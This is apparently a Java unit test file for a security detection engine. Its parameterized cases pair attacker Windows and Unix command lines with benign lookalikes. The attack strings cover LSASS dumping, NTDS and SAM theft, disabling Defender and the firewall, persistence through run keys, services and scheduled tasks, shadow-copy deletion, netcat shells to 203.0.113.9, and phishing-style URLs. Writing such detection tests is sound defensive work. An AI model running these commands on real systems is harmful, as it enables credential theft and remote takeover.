package dupin.engine.analyzer;

import static org.assertj.core.api.Assertions.assertThat;

import static dupin.engine.EngineCase.link;

import dupin.engine.EngineCase;
import dupin.model.Canonical;
import dupin.model.Entity;
import dupin.model.EventKind;
import dupin.model.LinkRole;
import dupin.model.Severity;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// Rules one by one: what each is about, and what comes close and is not.
class RuleTableTest {

    private static boolean shows(String weightId, String commandLine) {
        String program = Binaries.name(PersistenceAnalyzer.program(commandLine));
        var command = CommandLine.of(commandLine);
        return Behaviours.ALL.stream().anyMatch(b -> b.weightId().equals(weightId) && b.shows(program, command));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = ';',
            quoteCharacter = '~',
            textBlock =
                    """
                    command.dump-lsass; procdump64.exe -accepteula -ma lsass.exe; notepad.exe C:\\docs\\lsass-manual.txt
                    command.ntds; ntdsutil.exe "ac i ntds" ifm "create full C:\\x" q q; cmd.exe /c dir C:\\Windows\\NTDS\\ntds.dit
                    command.hive-copy; cmd.exe /c copy C:\\Windows\\System32\\config\\SAM C:\\x; cmd.exe /c copy C:\\app\\config\\sample.xml D:\\
                    command.locked-copy; esentutl.exe /y /vss C:\\Windows\\a.edb /d x.edb; esentutl.exe /g C:\\a.edb
                    command.journal-delete; fsutil.exe usn deletejournal /d c:; fsutil.exe usn queryjournal c:
                    command.firewall-off; netsh.exe advfirewall set allprofiles state off; netsh.exe advfirewall set allprofiles state on
                    command.protection-off; powershell.exe Set-MpPreference -DisableRealtimeMonitoring:$true; C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe Set-MpPreference -DisableRealtimeMonitoring $false
                    command.hidden; powershell.exe -w hidden -nop a.ps1; powershell.exe -w normal -nop a.ps1
                    command.bypass; powershell.exe -ExecutionPolicy Bypass -File a.ps1; powershell.exe -ExecutionPolicy RemoteSigned -File a.ps1
                    command.bits; bitsadmin.exe /transfer j http://203.0.113.9/a C:\\a; bitsadmin.exe /list
                    command.rundll32-user; rundll32.exe C:\\Users\\ann\\AppData\\Local\\a.dll,Run; rundll32.exe C:\\Windows\\System32\\printui.dll,PrintUIEntry
                    command.proxy; msbuild.exe C:\\Users\\ann\\a.csproj; msbuild.exe C:\\src\\a.csproj
                    command.remote-service; sc.exe \\\\srv create x binPath= C:\\a.exe; sc.exe \\\\srv query
                    command.admin-share; cmd.exe /c copy a.exe \\\\srv\\C$\\x; cmd.exe /c copy a.exe \\\\srv\\tools\\x
                    command.task-odd; schtasks.exe /create /tn x /tr "powershell -nop"; schtasks.exe /create /tn x /tr "C:\\Program Files\\V\\u.exe"
                    command.task-system; schtasks.exe /create /ru SYSTEM /tn x /tr y.exe; schtasks.exe /create /ru ann /tn x /tr y.exe
                    command.service-odd; sc.exe create x binPath= "cmd.exe /c a"; sc.exe create x binPath= "C:\\Program Files\\V\\s.exe"
                    command.logon-script; reg.exe add HKCU\\Environment /v UserInitMprLogonScript /d a.bat; reg.exe query HKCU\\Environment /v UserInitMprLogonScript
                    command.run-key; reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d a.exe; reg.exe query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run
                    command.wdigest; reg.exe add HKLM\\x\\WDigest /v UseLogonCredential /t REG_DWORD /d 1; reg.exe add HKLM\\x\\WDigest /v UseLogonCredential /t REG_DWORD /d 0
                    command.wdigest; cmd.exe /c reg add HKLM\\x\\WDigest /v UseLogonCredential /d 0x1 & reg add HKLM\\y /v z /d 0; reg.exe delete HKLM\\x\\WDigest /v UseLogonCredential /f
                    command.wdigest; powershell.exe Set-ItemProperty HKLM:\\x\\WDigest UseLogonCredential -Value 1; reg.exe query HKLM\\x\\WDigest /v UseLogonCredential
                    command.uac; reg.exe add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d a.exe; reg.exe query HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command
                    command.remote-desktop; reg.exe add HKLM\\x /v fDenyTSConnections /t REG_DWORD /d 0 /f; reg.exe add HKLM\\x /v fDenyTSConnections /t REG_DWORD /d 0x1 /f
                    command.unix-shell; nc -lvp 4444 -e /bin/bash; rsync -e ssh -av /srv backup:/srv
                    command.unix-shell; cmd.exe /c nc.exe -e cmd.exe 203.0.113.9 443; tar -cf - /srv
                    """)
    void commands(String weightId, String does, String doesNot) {
        assertThat(shows(weightId, does)).as(does).isTrue();
        assertThat(shows(weightId, doesNot)).as(doesNot).isFalse();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = ';',
            textBlock =
                    """
                    registry.hijack; pc|hklm\\software\\microsoft\\windows nt\\currentversion\\windows|appinit_dlls; C:\\x.dll; ''
                    registry.hijack; pc|hklm\\system\\currentcontrolset\\control\\session manager\\appcertdlls|x; C:\\x.dll; -
                    registry.hijack; pc|hklm\\software\\microsoft\\windows nt\\currentversion\\winlogon|shell; explorer.exe, C:\\x.exe; explorer.exe
                    registry.hijack; pc|hklm\\software\\microsoft\\windows nt\\currentversion\\image file execution options\\sethc.exe|debugger; cmd.exe; -
                    registry.protection; pc|hklm\\software\\policies\\microsoft\\windows defender\\real-time protection|disablerealtimemonitoring; DWORD (0x00000001); DWORD (0x00000000)
                    registry.service-odd; pc|hklm\\system\\currentcontrolset\\services\\x|imagepath; C:\\Users\\ann\\AppData\\Roaming\\x.exe; C:\\Program Files\\V\\x.exe
                    """)
    void registry(String weightId, String path, String bad, String good) {
        assertThat(rule(path, bad)).contains(weightId);
        if (!good.equals("-")) {
            assertThat(rule(path, good)).isEmpty();
        }
    }

    /// Windows itself sets values that begin with the same word.
    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            textBlock =
                    """
                    pc|hklm\\software\\microsoft\\windows nt\\currentversion\\winlogon|shellappruntime; ShellAppRuntime.exe
                    pc|hklm\\software\\microsoft\\windows nt\\currentversion\\winlogon|shellinfrastructure; sihost.exe
                    pc|hklm\\software\\vendor|appcertdlls; yes
                    """)
    void likeNamesMeanNothing(String path, String data) {
        assertThat(rule(path, data)).isEmpty();
    }

    private static Optional<String> rule(String path, String data) {
        String program = Canonical.path(PersistenceAnalyzer.program(data));
        return Optional.ofNullable(RegistryRules.of(path, CommandLine.of(data).text(), program))
                .map(RegistryRules.Rule::weightId);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = ' ',
            textBlock =
                    """
                    url.ip-host http://203.0.113.9/a http://10.0.0.9/a
                    url.punycode https://xn--pypal-4ve.example/ https://paypal.example/
                    url.cheap-ending https://parcel.top/x https://parcel.example/x
                    url.program https://files.example/f/tool.exe https://files.example/f/tool.html
                    url.program https://files.example/a.zip?x=1 https://files.example.com
                    url.user-info http://bank.example@evil.example https://news.example?mail=ann@corp.example/x
                    url.user-info https://bank.example:a@evil.example/x https://news.example/~ann@corp.example
                    """)
    void links(String weightId, String bad, String good) {
        assertThat(found(new EngineCase(), new Entity.Url(bad))).contains(weightId);
        assertThat(found(new EngineCase(), new Entity.Url(good))).doesNotContain(weightId);
    }

    @Test
    void ofSeveralClicksOneThatWasBlockedCounts() {
        var url = new Entity.Url("https://parcel.example/x");
        var clicked =
                new EngineCase().act(EventKind.URL_CLICKED, "ClickAllowed", 10, Map.of(), link(LinkRole.TARGET, url));
        assertThat(found(clicked, url)).doesNotContain("url.click-threat");
        clicked.act(EventKind.URL_CLICKED, "ClickBlocked", 20, Map.of(), link(LinkRole.TARGET, url));
        assertThat(found(clicked, url)).containsOnlyOnce("url.click-threat");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = ';',
            quoteCharacter = '~',
            textBlock =
                    """
                    service.pipe; %COMSPEC% /c echo a > \\\\.\\pipe\\a; C:\\Program Files\\V\\s.exe
                    service.harmful; cmd.exe /c vssadmin delete shadows /all; cmd.exe /c C:\\V\\start.cmd
                    service.interpreter; cmd.exe /c C:\\V\\start.cmd; C:\\Program Files\\V\\s.exe
                    service.user-place; C:\\Users\\Public\\s.exe -k; C:\\Windows\\System32\\svchost.exe -k x
                    service.windows-root; C:\\Windows\\PSEXESVC.exe; C:\\Windows\\explorer.exe
                    service.installed; "C:\\Program Files\\V\\s.exe" -run; C:\\V\\s.exe
                    """)
    void services(String weightId, String has, String hasNot) {
        assertThat(found(new EngineCase(), service(has))).contains(weightId);
        assertThat(found(new EngineCase(), service(hasNot))).doesNotContain(weightId);
    }

    @ParameterizedTest
    @CsvSource({
        "C:\\Users\\ann\\x.sys, true",
        "C:\\ProgramData\\x\\x.sys, true",
        "\\SystemRoot\\System32\\drivers\\tcpip.sys, false",
        "System32\\drivers\\tcpip.sys, false",
        "\\??\\C:\\Windows\\System32\\DriverStore\\FileRepository\\a\\a.sys, false",
        "C:\\Program Files\\V\\v.sys, false"
    })
    void drivers(String path, boolean odd) {
        assertThat(FileRules.driverElsewhere(path)).isEqualTo(odd);
    }

    private static Entity.Service service(String command) {
        return new Entity.Service("pc1", "svc", "", command);
    }

    private static java.util.List<String> found(EngineCase some, Entity entity) {
        return some.alert("a" + some.alerts().size(), Severity.LOW, entity).investigate().weightIds(entity);
    }
}
